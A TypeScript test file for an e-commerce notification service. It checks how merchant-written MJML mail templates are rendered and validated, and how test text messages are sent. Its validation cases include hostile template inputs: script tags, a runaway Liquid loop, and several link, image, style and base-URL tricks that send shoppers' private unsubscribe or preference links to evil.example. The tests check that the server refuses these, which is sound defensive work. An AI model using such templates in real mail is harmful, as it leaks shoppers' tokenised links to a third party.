import { routes } from '@voicecart/contract/routes';
import { type MailEmulator, startMail } from '@voicecart/emulators/mail/mail';
import { demoPhoneAccount } from '@voicecart/emulators/sms/account';
import { type SmsEmulator, startSms } from '@voicecart/emulators/sms/sms';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { type Caller, startTestServer, type TestServer } from '../../../test/test-server.ts';
import { sendDue } from './sending/send-due.ts';

// A mail is laid out in a thread of its own, whose start takes a busy machine a while.
vi.setConfig({ testTimeout: 60_000 });

let mail: MailEmulator;
let sms: SmsEmulator;
let server: TestServer;
let place = 0;

beforeAll(async () => {
  [mail, sms] = await Promise.all([startMail(), startSms()]);
  server = await startTestServer({
    SERVICES: 'web',
    SMTP_URL: mail.smtpUrl,
    SMS_API_ORIGIN: sms.url,
    SMS_ACCOUNT_SID: demoPhoneAccount.accountSid,
    SMS_AUTH_TOKEN: demoPhoneAccount.authToken,
    SMS_FROM: demoPhoneAccount.from,
    NOTIFICATION_TIMEOUT_MS: '2000',
  });
});
afterAll(async () => {
  await server.stop();
  await Promise.all([mail.close(), sms.close()]);
});

const key = { state: 'shipped', channel: 'mail', language: 'en' } as const;
const content = {
  subject: 'Off it goes: {order.number}',
  blocks: [{ kind: 'product' as const }, { kind: 'items' as const }],
};

async function shop(): Promise<Caller> {
  const merchant = await server.merchant();
  await server.call(routes.saveNotificationSettings, merchant, { body: { isOn: true } });
  return merchant;
}

const save = (merchant: Caller, mjml: string, more: object = {}) =>
  server.call(routes.saveNotificationTemplate, merchant, { body: { ...key, content, mjml, ...more } });
const preview = (merchant: Caller, more: object = {}) =>
  server.call(routes.previewNotification, merchant, { body: { ...key, content, ...more } });

async function told(merchant: Caller) {
  place += 1;
  const email = `ada${place}@shopper.example`;
  const body = {
    number: '1042',
    email,
    status: 'shipped' as const,
    placedAt: new Date().toISOString(),
    totalMinor: 4_800,
    currency: 'USD',
    items: [
      { sku: 'MUG', title: 'Mug <b>', quantity: 2, priceMinor: 1_900 },
      { sku: 'BOWL', title: 'Bowl', quantity: 1, priceMinor: 1_000 },
    ],
  };
  expect((await server.call(routes.putExternalOrder, merchant, { body })).status).toBe(200);
  await sendDue(server.platform, merchant.merchantId);
  return mail.mailbox.list(email).find(({ subject }) => subject.startsWith('Off it goes'));
}

const mjml = (body: string) => `<mjml>
  <mj-body>
    <mj-section><mj-column>
      ${body}
      <mj-text><a href="{link.unsubscribe}">Leave</a> {shop.address}</mj-text>
    </mj-column></mj-section>
  </mj-body>
</mjml>`;

describe('products in a mail', () => {
  it('stand in a table with pictures where the shop has some, and the total', async () => {
    const merchant = await shop();
    const product = {
      sku: 'MUG',
      title: 'Mug',
      priceMinor: 1_900,
      currency: 'USD',
      imageUrl: 'https://img.example/mug.jpg',
    };
    expect((await server.call(routes.createProduct, merchant, { body: product })).status).toBe(201);
    await save(merchant, '');
    const { html = '', text = '' } = (await told(merchant)) ?? {};
    expect(html.match(/<th scope="col"/g)).toHaveLength(3);
    // In the table and in the block of the first product.
    expect(html.match(/<img src="https:\/\/img\.example\/mug\.jpg" alt=""/g)).toHaveLength(2);
    expect(html).toContain('Mug &lt;b&gt;');
    expect(html).toMatch(/Total<\/th><td[^>]*>\$48/);
    expect(text).toContain('2 × Mug <b>');
  });

  it('are previewed as a product of the shop, and as the longest without a picture', async () => {
    const merchant = await shop();
    const product = {
      sku: 'JUG',
      title: 'Sea jug',
      priceMinor: 1_900,
      currency: 'USD',
      imageUrl: 'https://img.example/jug.jpg',
    };
    await server.call(routes.createProduct, merchant, { body: product });
    const [usual, longest] = [await preview(merchant), await preview(merchant, { isLongest: true })];
    expect(usual.body.html).toContain('https://img.example/jug.jpg');
    expect(usual.body.html).toContain('Sea jug');
    expect(longest.body.html).not.toContain('<img');
    expect(longest.body.html).toContain('hand-woven organic cotton');
  });
});

describe('a mail that an expert writes', () => {
  it('is sent in the place of the blocks, filled for each shopper', async () => {
    const merchant = await shop();
    const written = mjml('<mj-text>Order {order.number} is off</mj-text><mj-text>{order.items}</mj-text>');
    const saved = await save(merchant, written);
    expect(saved.status, saved.text).toBe(200);
    expect(saved.body.template).toMatchObject({ mjml: written, isOwn: true });
    const { html = '', text = '' } = (await told(merchant)) ?? {};
    expect(html).toContain('Order 1042 is off');
    expect(html).toContain('Mug &lt;b&gt;');
    expect(html).toMatch(/href="[^"]+\/n\/unsubscribe\/[\w.-]{20}/);
    expect(text).toContain('Order 1042 is off');
    expect(text).toMatch(/Leave \(http\S+\/n\/unsubscribe\//);
    // The blocks are kept, and sent again once the code is gone.
    expect((await save(merchant, '')).body.template).toMatchObject({ mjml: '', content });
  });

  it.each([
    ['a tag that is not closed', '<mj-text>Hello', 'Line 4: mj-text is not closed where it should be.'],
    ['a tag that MJML does not know', '<mj-txet>Hello</mj-txet>', 'Line 4: '],
    [
      'an attribute that MJML does not know',
      '<mj-text>Hi</mj-text>\n      <mj-text colour="red">Hello</mj-text>',
      'Line 5: ',
    ],
    ['a name that nothing has', '<mj-text>{order.nmber}</mj-text>', 'Line 4: {order.nmber} isn’t a valid field.'],
    ['a script', '<mj-text><script>x</script></mj-text>', 'Line 4: Mail programs take this tag out.'],
    [
      'Liquid without end',
      '{% for a in (1..1000000000) %}x{% endfor %}',
      'Line 4: This does too much for a mail: a loop runs too long',
    ],
    ['Liquid that is not closed', '{% if a %}', 'Line 4: '],
    [
      'a link that hands the shopper’s own to another site',
      '<mj-text><a href="https://evil.example/?{link.preferences}">x</a></mj-text>',
      'Line 4: Write href="{link.preferences}", with nothing else in the link.',
    ],
    [
      'a link within the address of a picture',
      `<mj-text><img src='https://evil.example/p.gif?x=href="{link.unsubscribe}"'></mj-text>`,
      'Line 4: Write href="{link.unsubscribe}", with nothing else in the link.',
    ],
    [
      'a link within the address of another one',
      `<mj-text><a href='https://evil.example/?href="{link.main}"'>x</a></mj-text>`,
      'Line 4: Write href="{link.main}", with nothing else in the link.',
    ],
    [
      'a link within a style',
      `<mj-text><p style='background:url(https://evil.example/?href="{link.main}")'>x</p></mj-text>`,
      'Line 4: Write href="{link.main}", with nothing else in the link.',
    ],
    ['a word that nothing is called', '<mj-text>Dear {customer}</mj-text>', 'Line 4: {customer} isn’t a valid field.'],
    ['spaces in a name', '<mj-text>{ order.number }</mj-text>', 'Line 4: Write {order.number}, without spaces.'],
    [
      'a base address before such a link',
      '</mj-column></mj-section><mj-section><mj-column><mj-navbar base-url="https://evil.example/?"><mj-navbar-link href="{link.main}">x</mj-navbar-link></mj-navbar>',
      'A link such as {link.main} stands by itself: remove the base address.',
    ],
  ])('is refused at its line with %s', async (_what, body, message) => {
    const merchant = await shop();
    const refused = await save(merchant, mjml(body));
    expect(refused.status, refused.text).toBe(400);
    expect(refused.body.fields[0]).toMatchObject({ path: 'mjml', message: expect.stringContaining(message) });
    expect((await preview(merchant, { mjml: mjml(body) })).status).toBe(400);
    const kept = await server.call(routes.getNotificationTemplate, merchant, { query: key });
    expect(kept.body.template.isOwn).toBe(false);
  });

  it('is looked at, or refused, however deep its tags are nested', async () => {
    const merchant = await shop();
    // Within the size of a template and its number of tags.
    const body = `<mj-text>${'<b>'.repeat(2_450)}x${'</b>'.repeat(2_450)}</mj-text>`;
    expect([200, 400]).toContain((await preview(merchant, { mjml: mjml(body) })).status);
  });

  it('needs the way out and the address, and is a mail', async () => {
    const merchant = await shop();
    const body =
      '<mjml><mj-body><mj-section><mj-column><mj-text>Hi</mj-text></mj-column></mj-section></mj-body></mjml>';
    const refused = await save(merchant, body);
    expect(refused.body.fields.map((field: { message: string }) => field.message)).toEqual([
      'Every mail needs {link.unsubscribe}.',
      'Every mail needs {shop.address}.',
    ]);
    const text = { subject: 'Hi', blocks: [{ kind: 'text', text: 'Hi' }] };
    expect((await save(merchant, mjml(''), { channel: 'sms', content: text })).status).toBe(400);
  });

  it('is refused with half of a character, which cannot be stored', async () => {
    const refused = await save(await shop(), '', { content: { ...content, subject: 'Off it goes \ud800' } });
    expect(refused).toMatchObject({ status: 400, body: { code: 'invalid' } });
  });

  it('begins as the blocks are', async () => {
    const merchant = await shop();
    const { mjml: starter } = (await preview(merchant)).body;
    expect(starter).toContain('{order.items}');
    const saved = await save(merchant, starter);
    expect(saved.status, saved.text).toBe(200);
  });
});

it('a text message is tried on the own confirmed number', async () => {
  const merchant = await shop();
  const text = { subject: 'Hi', blocks: [{ kind: 'text' as const, text: 'Order {order.number} is off' }] };
  const body = { ...key, channel: 'sms' as const, content: text };
  const test = () => server.call(routes.testNotification, merchant, { body });
  expect((await test()).status).toBe(404);
  const phone = { phone: '+12133734299', phone_verified: true };
  await server.platform.db.updateTable('users').set(phone).where('id', '=', merchant.userId).execute();
  expect((await test()).body).toMatchObject({ to: '+12133734299' });
  expect(sms.outbox.list('+12133734299')[0]?.text).toBe('Order 1042 is off\nReply STOP to opt out.');
  const { meters } = (await server.call(routes.currentSubscription, merchant, {})).body.subscription;
  expect(meters.find(({ kind }: { kind: string }) => kind === 'notifications')).toMatchObject({ used: 1 });
  sms.faults.set({}, { kind: 'status', status: 503 });
  expect((await test()).body).toMatchObject({ code: 'phone_unavailable' });
  sms.faults.clear();
  await server.platform.db
    .updateTable('attempt_counts')
    .set({ count: 20 })
    .where('key', 'like', 'test-text:%')
    .execute();
  expect((await test()).body).toMatchObject({ code: 'too_many_requests' });
  expect(sms.outbox.list('+12133734299')).toHaveLength(1);
});
